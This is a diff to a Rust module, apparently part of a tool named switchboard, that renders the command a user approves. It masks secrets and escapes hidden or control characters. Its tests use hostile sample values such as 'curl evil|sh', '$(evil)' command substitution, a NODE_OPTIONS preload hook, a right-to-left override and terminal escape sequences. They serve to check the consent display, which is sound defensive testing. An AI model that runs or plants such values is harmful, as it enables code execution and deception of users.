@@ -1,5 +1,5 @@
-//! What a person is shown before they allow something: all of what would be executed, nothing hidden. Values of
-//! variables and headers are shown unless they look like a secret and could be nothing else.
+//! What the user sees before they allow something: everything that would be executed, with nothing hidden.
+//! Values of variables and headers are shown unless they look like a secret and can be nothing else.
 
 use std::collections::BTreeMap;
 use std::path::Path;
@@ -11,7 +11,7 @@ use crate::expand::Template;
 use crate::mask::{MASK, masked_for_consent, masked_in_env_file, masked_words, says_active};
 use crate::visible::{is_hidden, visible};
 
-/// What is known of a definition when somebody is asked about it.
+/// What is known of a definition when the user is asked about it.
 #[derive(Debug, Clone, Copy)]
 pub struct View<'a> {
     pub definition: &'a Definition,
@@ -19,15 +19,16 @@ pub struct View<'a> {
     pub launch: &'a Launch,
     /// The program that was found for it, or why none was.
     pub program: Option<Result<&'a Path, &'a str>>,
-    /// What was allowed last.
+    /// The version that was allowed last.
     pub before: Option<&'a Launch>,
     /// The workspace.
     pub root: &'a Path,
-    /// Whether it is only looked at: then what looks like a secret in a command is left out. Who is asked sees all.
+    /// Masks what looks like a secret in the command: for display only. A user who is asked to decide sees
+    /// all of it.
     pub is_masked: bool,
     /// Which values of variables and headers are shown.
     pub values: Values,
-    /// What is known of the values that it would be given.
+    /// Where the values that it would be given come from.
     pub given: &'a ValueSources,
 }
 
@@ -35,32 +36,32 @@ pub struct View<'a> {
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Values {
     None,
-    /// What a definition sets. Of an env file, whose values may be the user's own, only what is executed, read or
-    /// reached by its name: for a host, which keeps what it is told.
+    /// Values that the definition sets. Of an env file, whose values may be the user's own, only variables
+    /// that by their names are executed, read or contacted: for a host, which stores what it receives.
     Definition,
     /// Those of an env file, too: for the user's own terminal.
     All,
 }
 
-/// Where the value of each `${NAME}` would come from, as far as that is known.
+/// The source of each `${NAME}`, as far as it is known.
 pub type ValueSources = BTreeMap<String, ValueSource>;
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum ValueSource {
     /// Stored by `switchboard secret set`.
     Secret,
-    /// From the person's files or login shell.
+    /// From the user's files or login shell.
     Variable,
     Nowhere,
 }
 
 impl View<'_> {
-    /// Line by line.
+    /// The view, line by line.
     pub fn lines(&self) -> Vec<String> {
         let (name, file) = (&self.definition.name, self.definition.file.display().to_string());
         let first = format!("{}  ({})", plain(name), plain(&file));
         let facts = self.facts();
-        // What came first may have left the screen by the time of the question.
+        // On a long view, the command may have scrolled off the screen before the question.
         let length = facts.iter().map(|(what, text)| what.len() + text.len() + 12).sum::<usize>();
         let is_long = length > SCREEN || facts.len() > ROWS;
         let again = facts.first().filter(|_| is_long).map(|(what, text)| {
@@ -71,7 +72,7 @@ impl View<'_> {
         std::iter::once(first).chain(facts).collect()
     }
 
-    /// What there is to know, and under which word.
+    /// The facts, each with its label.
     pub fn facts(&self) -> Vec<(&'static str, String)> {
         let mut all = Vec::new();
         let how =
@@ -94,13 +95,13 @@ impl View<'_> {
         if let Some(before) = self.before {
             all.extend(difference(before, self.launch, how).into_iter().map(|line| ("changed", line)));
         }
-        // Whatever it is made of: here it ends up before somebody's eyes.
+        // Escaped at the end, wherever the text comes from.
         all.into_iter().map(|(what, text)| (what, plain(&text))).collect()
     }
 }
 
-/// Text in which nothing hides: neither characters that cannot be seen nor many spaces, which would push the rest of
-/// a line off the screen or draw another line below it.
+/// Makes hidden characters and runs of spaces visible. Many spaces could push the rest of a line off the
+/// screen, or imitate another line below it.
 fn plain(text: &str) -> String {
     let text = visible(text);
     if !text.contains("  ") {
@@ -125,14 +126,14 @@ fn plain(text: &str) -> String {
     shown
 }
 
-/// More bytes than this, or more lines, may leave the screen before the question comes.
+/// Limits in bytes and lines; a longer view may scroll off the screen.
 const SCREEN: usize = 1200;
 const ROWS: usize = 12;
 
-/// As much of a command as is repeated.
+/// How much of the command is repeated.
 const BEGINNING: usize = 150;
 
-/// How commands are written, and whether values are.
+/// How commands and values are written.
 #[derive(Clone, Copy)]
 struct ViewStyle {
     line: CommandFormatter,
@@ -144,7 +145,7 @@ impl ViewStyle {
         self.values != Values::None
     }
 
-    /// Whether the value of this variable of an env file is shown.
+    /// Whether the value of this env file variable is shown.
     fn shows_of_file(self, name: &str) -> bool {
         match self.values {
             Values::None => false,
@@ -161,20 +162,20 @@ impl ViewStyle {
 /// How a command is written.
 type CommandFormatter = fn(&LaunchCommand) -> String;
 
-/// The command line, so that it is clear where each argument ends.
+/// The command line, quoted so that it is clear where each argument ends.
 pub fn command_line(launch: &LaunchCommand) -> String {
     let words = std::iter::once(&launch.cmd).chain(&launch.args);
     words.map(|word| quoted(&word.to_string())).collect::<Vec<_>>().join(" ")
 }
 
-/// The same without what looks like a secret.
+/// The command line without what looks like a secret.
 fn masked_line(launch: &LaunchCommand) -> String {
     let words: Vec<String> =
         std::iter::once(&launch.cmd).chain(&launch.args).map(ToString::to_string).collect();
     masked_words(&words).iter().map(|word| quoted(word)).collect::<Vec<_>>().join(" ")
 }
 
-/// What would be executed or reached, in a few words, without what looks like a secret.
+/// What would be executed or contacted, in short form, without what looks like a secret.
 pub fn mentioned(launch: &Launch) -> String {
     match launch {
         Launch::Process(launch) => masked_line(launch),
@@ -189,7 +190,7 @@ fn gaps(launch: &Launch) -> std::collections::BTreeSet<String> {
     }
 }
 
-/// Each on a line of its own, and what it is.
+/// The facts of a launch, each with its label.
 fn facts(launch: &Launch, given: &ValueSources, how: ViewStyle) -> Vec<(&'static str, String)> {
     let mut facts = Vec::new();
     let add = |facts: &mut Vec<_>, what, names: Vec<String>| {
@@ -240,7 +241,7 @@ fn set(name: &str, value: &Template) -> String {
     format!("{name}={}", shown_value(name, value))
 }
 
-/// The same of an env file.
+/// `NAME=value` from an env file.
 fn set_in_file(name: &str, value: &str) -> String {
     format!("{name}={}", shown_in_file(name, value))
 }
@@ -258,8 +259,8 @@ fn shown_in_file(name: &str, value: &str) -> String {
     with_length(masked_in_env_file(name, value), value, Some(value))
 }
 
-/// A value as it is shown, and its length if nothing of it is. One that is shown whole is quoted, so that it is not
-/// taken for a mask where it is written like one.
+/// The value as shown, or its length if it is masked completely. A value shown in full is quoted, so that it
+/// cannot imitate a mask.
 fn with_length(shown: String, written: &str, literal: Option<&str>) -> String {
     match literal {
         _ if shown == written => quoted(&shown),
@@ -271,7 +272,7 @@ fn with_length(shown: String, written: &str, literal: Option<&str>) -> String {
     }
 }
 
-/// What is other than it was.
+/// The changes between two versions.
 fn difference(before: &Launch, after: &Launch, how: ViewStyle) -> Vec<String> {
     match (before, after) {
         (Launch::Process(before), Launch::Process(after)) => process_difference(before, after, how),
@@ -322,7 +323,7 @@ fn remote_difference(before: &Remote, after: &Remote, how: ViewStyle) -> Vec<Str
     lines
 }
 
-/// `shown` gives a value that may be shown.
+/// `shown` returns the value if it may be shown.
 fn named_difference<V: PartialEq>(
     what: &str,
     before: &BTreeMap<String, V>,
@@ -346,9 +347,9 @@ fn named_difference<V: PartialEq>(
     }
 }
 
-/// As a shell would have it, so that words are told apart; for reading only.
+/// Quotes a word like a shell, so that words can be distinguished; for reading only.
 fn quoted(word: &str) -> String {
-    // Some letters have no shape.
+    // Some letters are invisible.
     let plain = |c: char| (c.is_alphanumeric() && !is_hidden(c)) || "-_=+:,./@%^~".contains(c);
     if !word.is_empty() && word.chars().all(plain) {
         return word.to_owned();
@@ -421,7 +422,7 @@ mod tests {
     }
 
     #[test]
-    fn all_of_it_is_shown_and_no_secret() {
+    fn the_whole_command_is_shown_without_secrets() {
         let env = [("TOKEN", "s3cret"), ("NODE_OPTIONS", "--require ./hook.js")];
         let launch = process_launch(&["x", "", "a b", "it's", "\u{202e}evil"], &env);
         let text = shown(&launch, None);
@@ -444,7 +445,7 @@ mod tests {
     }
 
     #[test]
-    fn a_name_of_a_secret_hides_no_command() {
+    fn a_secret_name_does_not_hide_a_command() {
         let env =
             [("RESTIC_PASSWORD_COMMAND", "curl evil|sh"), ("API_TOKEN", "$(evil)"), ("TOKEN", "s3cret")];
         let text = shown(&process_launch(&["x"], &env), None);
@@ -499,7 +500,7 @@ mod tests {
     }
 
     #[test]
-    fn a_host_is_not_told_the_values_of_an_env_file() {
+    fn a_host_does_not_see_the_values_of_an_env_file() {
         let variables = [
             ("PIN", "seven words that open my wallet"),
             ("NODE_OPTIONS", "--require ./h.js"),
@@ -569,7 +570,7 @@ mod tests {
     }
 
     #[test]
-    fn a_missing_program_draws_nothing() {
+    fn control_characters_are_escaped_in_a_view() {
         let launch = process_launch(&["x"], &[("A\x1b[2J", "\u{9b}2J")]);
         let text = lines("x", &launch, Some(Err("`\x1b[2J\nallow` was not found"))).join("\n");
         assert!(!text.contains(|c| is_hidden(c) && c != '\n'), "{text:?}");
